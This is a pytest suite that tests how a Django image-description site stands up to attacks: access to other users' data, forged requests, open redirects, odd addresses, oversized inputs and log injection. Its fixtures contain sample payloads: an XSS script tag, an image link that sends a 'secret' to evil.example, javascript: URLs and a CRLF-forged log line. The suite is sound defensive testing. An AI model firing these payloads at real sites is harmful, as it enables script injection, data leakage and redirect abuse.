"""What people try, over the site's own socket: other people's things, scripts, forged requests, odd addresses."""

import re
import socket
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
from django.urls import URLPattern, get_resolver

from tests.endpoint import ScriptedEndpoint, answer
from tests.images.pictures import photo
from tests.site import Site

pytestmark = [pytest.mark.site, pytest.mark.xdist_group("outside")]
EVE = {"username": "eve", "password": "staple-correct-9"}
INERT = "<script>alert(1)</script>"
OPEN = {"healthz", "readyz", "login", "first_visit"}
POLICY = (
    "default-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
)


@pytest.fixture(scope="module")
def scripted():
    with ScriptedEndpoint() as endpoint:
        endpoint.default = answer(f"{INERT} ![](https://evil.example/?q=secret) [x](javascript:alert(1))")
        yield endpoint


@pytest.fixture(scope="module")
def site(tmp_path_factory, scripted):
    variables = {
        "VISION_BASE_URL": scripted.url,
        "VISION_MODEL": "m",
        "VISION_API_KEY": "sk-x",
        "QUEUED_PER_PERSON": "50",
    }
    with Site(tmp_path_factory.mktemp("people"), **variables) as started:
        add = f"from describer.models import User; User.objects.create_user('{EVE['username']}', password='{EVE['password']}')"
        started.manage("shell", "-c", add)
        made = started.ask(photo(64, 48), question=INERT, headers={"Idempotency-Key": "first"})
        started.row = started.finished(made["id"])
        yield started


@pytest.fixture
def eve(site):
    return site.login(**EVE)


@pytest.fixture
def owner(site):
    return site.login()


def routes():
    """Every named route with the admin's description and image filled in."""
    for one in get_resolver("describer.urls").url_patterns:
        if isinstance(one, URLPattern) and one.name:
            yield one.name, "/" + re.sub(r"<\w+:(\w+)>", r"{\1}", str(one.pattern))


def address(site, name, route):
    image = name in ("original", "thumbnail", "sent")
    number = site.row["images"][0]["id"] if image else site.row["id"]
    return site.url + route.format(pk=number, position=0)


ROUTES = list(routes())


@pytest.mark.parametrize(("name", "route"), ROUTES)
def test_x1_without_login_every_page_leads_to_the_login(site, name, route):
    response = requests.get(address(site, name, route), timeout=10, allow_redirects=False)
    if name in OPEN:
        assert response.status_code in (200, 302)
    elif name in ("live", "theme", "logout", "images"):
        assert response.status_code in (302, 401, 403, 405)
    else:
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/login/?next=/")


@pytest.mark.parametrize(("name", "route"), [one for one in ROUTES if "{pk}" in one[1]])
@pytest.mark.parametrize("method", ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
def test_x2_x4_a_stranger_meets_404_for_every_route_and_method(site, eve, name, route, method):
    headers = {"X-CSRFToken": eve.cookies["csrftoken"], "Referer": site.url}
    response = eve.request(
        method, address(site, name, route), headers=headers, timeout=10, allow_redirects=False
    )
    assert response.status_code == 404
    assert site.description(site.row["id"]) == site.row


def test_x1_scripts_without_a_key_get_401_in_json(site, eve):
    for session in (requests, eve):
        response = session.get(f"{site.url}/api/descriptions", timeout=10)
        assert (response.status_code, response.json()["error"]["type"]) == (401, "authentication_error")


@pytest.mark.parametrize(
    "path",
    ["/", "/login/", "/no-such-page/", "/history/", "/api/descriptions", "/api/nothing", "/static/css/site.css", "/healthz",
     "/live/", "/images/1/", "/images/1/thumbnail/", "/admin/", "/api/docs"],
)  # fmt: skip
def test_x10_headers_are_on_every_reply(site, owner, path):
    for session in (owner, requests):
        headers = session.get(site.url + path, timeout=10, stream=True).headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "same-origin"
        assert headers["X-Frame-Options"] == "DENY"
        policy = headers["Content-Security-Policy"]
        assert "unsafe" not in policy
        assert all(rule in policy for rule in POLICY) or "sandbox" in policy


def test_x15_a_foreign_host_is_refused_with_the_headers_on(site):
    response = requests.get(site.url, headers={"Host": "evil.example"}, timeout=10)
    assert response.status_code == 400
    assert response.headers["X-Frame-Options"] == "DENY"


def test_x11_a_forged_post_is_refused_in_words(site, owner):
    response = owner.post(f"{site.url}/descriptions/{site.row['id']}/delete/", timeout=10)
    assert response.status_code == 403
    assert "out of date" in response.text
    assert site.description(site.row["id"])


def test_x12_cookies_are_for_the_site_alone(site):
    session = requests.Session()
    session.get(f"{site.url}/login/", timeout=10)
    fields = EVE | {"csrfmiddlewaretoken": session.cookies["csrftoken"]}
    reply = session.post(
        f"{site.url}/login/", data=fields, headers={"Referer": site.url}, timeout=10, allow_redirects=False
    )
    cookie = next(value for value in reply.raw.headers.getlist("Set-Cookie") if value.startswith("sessionid"))
    assert "HttpOnly" in cookie
    assert "SameSite=Lax" in cookie


@pytest.mark.parametrize(
    "target", ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)"]
)
def test_x13_after_login_nobody_is_sent_elsewhere(site, target):
    session = requests.Session()
    session.get(f"{site.url}/login/", timeout=10)
    fields = EVE | {"csrfmiddlewaretoken": session.cookies["csrftoken"], "next": target}
    reply = session.post(
        f"{site.url}/login/", data=fields, headers={"Referer": site.url}, timeout=10, allow_redirects=False
    )
    assert (reply.status_code, reply.headers["Location"]) == (302, "/")


def test_x20_x21_scripts_and_pictures_in_words_are_inert_everywhere(site, owner):
    pages = ("/", "/history/", f"/descriptions/{site.row['id']}/", f"/descriptions/{site.row['id']}/card/",
             "/admin/describer/description/", f"/admin/describer/description/{site.row['id']}/change/",
             "/admin/describer/attempt/")  # fmt: skip
    for page in pages:
        response = owner.get(site.url + page, timeout=10)
        assert response.status_code == 200, page
        assert INERT not in response.text, page
        assert 'src="https://evil' not in response.text, page
        assert 'href="javascript' not in response.text, page


def test_x5_x32_pictures_are_private_and_sandboxed(site, owner):
    number = site.row["images"][0]["id"]
    original = owner.get(f"{site.url}/images/{number}/", timeout=10)
    assert original.headers["Content-Type"] == "image/jpeg"
    assert "private" in original.headers["Cache-Control"]
    assert "sandbox" in original.headers["Content-Security-Policy"]
    assert original.content == photo(64, 48)
    thumbnail = owner.get(f"{site.url}/images/{number}/thumbnail/", timeout=10)
    assert "private" in thumbnail.headers["Cache-Control"]


@pytest.mark.parametrize(
    "path",
    ["/descriptions/99999999999999999999/", "/descriptions/0/", "/images/99999999999999999999/thumbnail/", "//", "/%00", "/%ff/",
     "/history/?before=%00&model=%ff", "/descriptions/1/?from=%00%ff", "/api/descriptions/99999999999999999999",
     "/api/descriptions?cursor=%00&limit=x&status=%00", "/login/?next=%00", "/usage/?on=%00", "/?from=%00", "/static/%00"],
)  # fmt: skip
def test_x25_odd_addresses_are_never_a_fault_of_ours(site, owner, path):
    for headers in ({}, site.bearer):
        assert owner.get(site.url + path, headers=headers, timeout=10).status_code < 500


@pytest.mark.parametrize(
    "request_line", [b"GET / HTTP/9.9", b"\x00\x01\x02", b"BREW / HTTP/1.1", b"GET " + b"a" * 100_000]
)
def test_garbage_on_the_wire_is_answered_or_closed(site, request_line):
    host, port = site.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(request_line + b"\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        assert b" 500 " not in connection.recv(4096)
    assert requests.get(f"{site.url}/healthz", timeout=5).ok


def test_x26_floods_of_words_and_numbers_are_refused_in_bounded_time(site):
    for fields in (
        {"question": "x" * 200_000},
        {"question": "?", "seed": "9" * 100_000},
        {"question": "?", "logit_bias": "[" * 50_000},
        {"question": "?"} | {f"p{number}": "x" for number in range(6000)},
    ):
        response = site.session.post(
            f"{site.url}/api/descriptions",
            headers=site.bearer,
            files={"image": ("a.jpg", photo(32, 32))},
            data=fields,
            timeout=10,
        )
        assert response.status_code == 400, fields.keys()
        assert response.json()["error"]["message"]


def test_x27_fields_that_are_not_for_people_are_ignored(site):
    described = site.ask(
        photo(64, 48), question="Mine?", owner="eve", status="done", id="1", usage="0", cost="9"
    )
    assert (described["owner"], described["status"]) == ("admin", "queued")


def test_x30_a_line_break_in_words_is_no_line_of_the_log(site):
    site.finished(site.ask(photo(64, 48), question="One\n2026-01-01 ERROR forged: line\r\nTwo")["id"])
    assert not [line for line in site.log if line.startswith("2026-01-01")]


def test_p24_sixteen_sends_of_one_form_are_one_ask(site, owner):
    page = owner.get(f"{site.url}/", timeout=10).text
    token = re.search(r'name="token" value="([^"]+)"', page)[1]
    fields = {
        "question": "Sent sixteen times?",
        "token": token,
        "csrfmiddlewaretoken": owner.cookies["csrftoken"],
    }

    def send(_):
        cookies = owner.cookies.get_dict()
        files = {"image": ("once.jpg", photo(90, 70))}
        return requests.post(
            f"{site.url}/",
            data=fields,
            files=files,
            cookies=cookies,
            headers={"Referer": site.url},
            timeout=30,
        )

    with ThreadPoolExecutor(16) as pool:
        assert {reply.status_code for reply in pool.map(send, range(16))} <= {200, 201}
    listed = site.session.get(
        f"{site.url}/api/descriptions?limit=100", headers=site.bearer, timeout=10
    ).json()["items"]
    assert len([one for one in listed if one["question"] == "Sent sixteen times?"]) == 1


def test_live_events_are_for_the_logged_in_and_about_their_own(site, eve):
    assert requests.get(f"{site.url}/live/", timeout=10).status_code == 401
    with eve.get(f"{site.url}/live/", stream=True, timeout=30) as stream:
        assert stream.headers["Content-Type"].startswith("text/event-stream")
        site.finished(site.ask(photo(64, 48), question="Not for Eve?")["id"])
        lines = stream.iter_lines(chunk_size=1, decode_unicode=True)
        first = [line for _, line in zip(range(3), lines, strict=False)]
    assert not [line for line in first if line.startswith("data:")]
